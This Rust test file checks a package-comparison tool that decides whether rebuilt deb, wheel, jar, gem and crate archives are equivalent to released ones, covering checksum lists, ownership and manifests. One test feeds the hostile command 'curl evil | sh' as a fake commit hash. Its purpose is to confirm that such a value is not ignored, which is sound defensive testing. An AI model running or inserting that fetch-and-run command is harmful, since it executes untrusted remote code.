//! Cases where different kinds of packages, formats or lists meet.

use super::samples::{Sample, deb, gzip, sample, samples, tar, zip};
use crate::compare::{Cause, Comparison, Options, Outcome, compare_bytes};

fn compared(name: &str, released: &[u8], rebuilt: &[u8]) -> Comparison {
    compare_bytes(name, released, rebuilt, &Options::default())
}

fn is_equivalent(name: &str, released: &[u8], rebuilt: &[u8]) -> bool {
    compared(name, released, rebuilt).outcome == Outcome::Equivalent
}

/// The same file with another owner, and with another mode.
fn taken_over(path: &str) -> [Sample; 2] {
    let file = || sample(path, "{\"name\": \"x\", \"version\": \"1.0.0\"}");
    [
        Sample {
            owner: 1000,
            ..file()
        },
        Sample {
            mode: 0o666,
            ..file()
        },
    ]
}

#[test]
fn dpkg_takes_over_what_looks_like_another_package() {
    for path in [
        "./x",
        "package/package.json",
        "x-1/PKG-INFO",
        "x-1/Cargo.toml.orig",
    ] {
        let [owner, mode] = taken_over(path);
        let usual = sample(path, &owner.bytes);
        let released = deb(&[], std::slice::from_ref(&usual));
        for other in [owner, mode] {
            assert!(!is_equivalent("x.deb", &released, &deb(&[], &[other])), "{path}");
        }
        let late = Sample { time: 5, ..usual };
        assert!(is_equivalent("x.deb", &released, &deb(&[], &[late])), "{path}");
    }
    let folder = || Sample {
        mode: 0o755,
        ..sample("d/", "")
    };
    let file = || sample("d/x", "1");
    let early = deb(&[], &[folder(), file()]);
    let late = compared("x.deb", &early, &deb(&[], &[file(), folder()]));
    assert_eq!(late.causes[0].cause, Cause::Content, "{:?}", late.tree);
}

#[test]
fn a_folder_with_a_file_of_an_sdist_is_not_one() {
    let archive = |folder: &str, owner| {
        let shadow = Sample {
            owner,
            ..sample(&format!("{folder}/shadow"), "x")
        };
        tar(&[sample(&format!("{folder}/PKG-INFO"), "Name: x\n"), shadow])
    };
    for (folder, wanted) in [("x-1.0", true), ("etc", false), ("my-etc", false)] {
        let equivalent = is_equivalent("x.tar", &archive(folder, 0), &archive(folder, 7));
        assert_eq!(equivalent, wanted, "{folder}");
    }
}

#[test]
fn only_a_commit_is_set_aside_as_one() {
    let with = |commit: &str| {
        let text = format!("{{\"git\": {{\"sha1\": \"{commit}\"}}}}");
        let files = [
            ("x-1/.cargo_vcs_info.json", text.as_str()),
            ("x-1/Cargo.toml", ""),
        ];
        gzip(&tar(&samples(&files)))
    };
    let (one, other) = ("a1".repeat(20), "b2".repeat(20));
    assert!(is_equivalent("x.crate", &with(&one), &with(&other)));
    assert!(!is_equivalent("x.crate", &with(&one), &with("curl evil | sh")));
}

#[test]
fn a_weak_digest_in_record_is_content() {
    let wheel = |digest: &str| {
        let record = format!("x/a.py,{digest},1\n");
        zip(&samples(&[
            ("x/a.py", "1"),
            ("x-1.dist-info/WHEEL", "Wheel-Version: 1.0\n"),
            ("x-1.dist-info/RECORD", &record),
        ]))
    };
    let strong = wheel("sha256=a4ayc_80_OGda4BO_1o_V0etpOqiLx1JwB5S3beHW0s");
    let hex = wheel("sha256=6b86b273ff34fce19d6b804eff5a3f5747ada4eaa22f1d49c01e52ddb7875b4b");
    assert!(is_equivalent("x.whl", &strong, &hex));
    let weak = compared("x.whl", &strong, &wheel("md5=xMpCOKC5I4INzFCab3WEmw"));
    assert_eq!(weak.causes[0].cause, Cause::Content, "{:?}", weak.tree);
}

/// A package with one file, and a list of checksums for other bytes.
type Listed = fn(file: &[u8], listed: &[u8]) -> Vec<u8>;

fn sha256(bytes: &[u8]) -> String {
    hex::encode(<sha2::Sha256 as sha2::Digest>::digest(bytes))
}

const LISTED: &[(&str, Listed)] = &[
    ("x.deb", |file, listed| {
        let md5 = hex::encode(<md5::Md5 as sha2::Digest>::digest(listed));
        let sums = sample("./md5sums", format!("{md5}  usr/x.gz\n"));
        deb(&[sums], &[sample("./usr/x.gz", file)])
    }),
    ("x.whl", |file, listed| {
        let record = format!("x/x.gz,sha256={},\n", sha256(listed));
        zip(&[
            sample("x/x.gz", file),
            sample("x-1.dist-info/WHEEL", "Wheel-Version: 1.0\n"),
            sample("x-1.dist-info/RECORD", record),
        ])
    }),
    ("x.jar", |file, listed| {
        let digest = base64::Engine::encode(
            &base64::engine::general_purpose::STANDARD,
            <sha2::Sha256 as sha2::Digest>::digest(listed),
        );
        let manifest = format!("Manifest-Version: 1.0\r\n\r\nName: x.gz\r\nSHA-256-Digest: {digest}\r\n\r\n");
        zip(&[sample("META-INF/MANIFEST.MF", manifest), sample("x.gz", file)])
    }),
    ("x.gem", |file, listed| {
        let (metadata, part) = (
            gzip(b"--- !ruby/object:Gem::Specification\nname: x\n"),
            "data.tar.gz",
        );
        let data = |inner: &[u8]| {
            let mut data = gzip(&tar(&[sample("x.rb", "1")]));
            data[4] = inner[4];
            data
        };
        let list = format!("---\nSHA256:\n  {part}: {}\n", sha256(&data(listed)));
        tar(&[
            sample("metadata.gz", metadata),
            sample(part, data(file)),
            sample("checksums.yaml.gz", gzip(list.as_bytes())),
        ])
    }),
];

#[test]
fn a_list_that_did_not_follow_its_file_is_wrong() {
    let mut early = gzip(b"1");
    let mut late = early.clone();
    (early[4], late[4]) = (1, 2);
    for (name, package) in LISTED {
        let released = package(&early, &early);
        let stale = compared(name, &released, &package(&late, &early));
        assert_eq!(stale.causes[0].cause, Cause::Content, "{name}: {:?}", stale.tree);
        let followed = compared(name, &released, &package(&late, &late));
        assert_eq!(
            followed.outcome,
            Outcome::Equivalent,
            "{name}: {:?}",
            followed.tree
        );
    }
    let loose = |file: &[u8], listed: &[u8]| {
        let line = format!("{}  x.gz\n", sha256(listed));
        tar(&[sample("d/x.gz", file), sample("d/SHA256SUMS", line)])
    };
    let stale = compared("x.tar", &loose(&early, &early), &loose(&late, &early));
    assert_eq!(stale.causes[0].cause, Cause::Content, "{:?}", stale.tree);
    let followed = compared("x.tar", &loose(&early, &early), &loose(&late, &late));
    assert_ne!(followed.causes[0].cause, Cause::Content, "{:?}", followed.tree);
}

#[test]
fn the_folder_of_a_manifest_may_come_behind_it() {
    const MANIFEST: &str = "Manifest-Version: 1.0\r\n\r\n";
    let entries = |names: &[&str]| {
        let entry = |name: &&str| Sample {
            mode: 0o755,
            ..sample(name, if name.ends_with("MF") { MANIFEST } else { "" })
        };
        zip(&names.iter().map(entry).collect::<Vec<_>>())
    };
    let (folder, manifest) = ("META-INF/", "META-INF/MANIFEST.MF");
    let released = entries(&[folder, manifest, "a"]);
    assert!(is_equivalent(
        "x.jar",
        &released,
        &entries(&[manifest, "a", folder])
    ));
    for late in [
        ["a", folder, manifest],
        [folder, "a", manifest],
        ["a", manifest, folder],
    ] {
        let found = compared("x.jar", &released, &entries(&late));
        assert_eq!(
            found.causes[0].cause,
            Cause::Content,
            "{late:?}: {:?}",
            found.tree
        );
    }
}

#[test]
fn a_list_of_a_vendored_crate_that_did_not_follow_is_wrong() {
    let mut early = gzip(b"1");
    let mut late = early.clone();
    (early[4], late[4]) = (1, 2);
    let vendored = |file: &[u8], listed: &[u8]| {
        let list = format!(r#"{{"files":{{"x.gz":"{}"}}}}"#, sha256(listed));
        tar(&[sample("d/x.gz", file), sample("d/.cargo-checksum.json", list)])
    };
    let stale = compared("x.tar", &vendored(&early, &early), &vendored(&late, &early));
    assert_eq!(stale.causes[0].cause, Cause::Content, "{:?}", stale.tree);
    let followed = compared("x.tar", &vendored(&early, &early), &vendored(&late, &late));
    assert_ne!(
        followed.outcome,
        Outcome::Equivalent,
        "the list itself is content"
    );
}

#[test]
fn a_name_that_is_the_digest_of_other_bytes_is_content() {
    let blob = |named: &[u8]| tar(&[sample(&format!("blobs/sha256/{}", sha256(named)), "1")]);
    let found = compared("x.tar", &blob(b"1"), &blob(b"3"));
    assert_eq!(found.causes[0].cause, Cause::Content, "{:?}", found.tree);
}
